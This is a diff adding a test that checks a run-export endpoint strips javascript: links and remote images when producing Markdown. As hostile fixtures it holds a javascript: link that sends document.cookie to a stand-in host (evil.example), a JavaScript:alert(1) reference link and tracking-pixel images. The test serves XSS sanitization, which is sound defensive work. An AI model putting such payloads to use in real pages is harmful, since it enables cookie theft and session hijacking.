@@ -97,6 +97,26 @@ describe("a producer's run", () => {
     expect(md.body).toContain("Step one: back up.");
     expect(md.body).toContain("search");
   });
+
+  it("exports a producer's text as Markdown without its javascript: links or remote images", async () => {
+    const runId = runIdOf(await p.start({ task: "Links" }));
+    const text =
+      "Read [the **guide**](javascript:fetch('//evil.example/'+document.cookie)) and [docs](https://docs.example).\n\n" +
+      "![pixel](https://tracker.example/p.png?who=you) [x][evil]\n\n[evil]: JavaScript:alert(1)";
+    const events = [
+      started("t1", "Writer"),
+      token("t1", text),
+      { type: "agent.turn_completed", data: { turn_id: "t1" } },
+      { type: "run.completed", data: { summary: "See ![chart](https://tracker.example/chart.png)" } },
+    ];
+    expect((await p.post(runId, { events })).status).toBe(200);
+    const md = (await call(server, p.key, "GET", `/api/v1/runs/${runId}/export?format=md`)).body as string;
+    expect(md).not.toMatch(/javascript:/i);
+    expect(md).not.toMatch(/!\[/);
+    expect(md).toContain("Read the guide and [docs](https://docs.example).");
+    expect(md).toContain("[pixel](<https://tracker.example/p.png?who=you>)");
+    expect(md).toContain("See [chart](<https://tracker.example/chart.png>)");
+  });
 });
 
 describe("the lifecycle rules", () => {
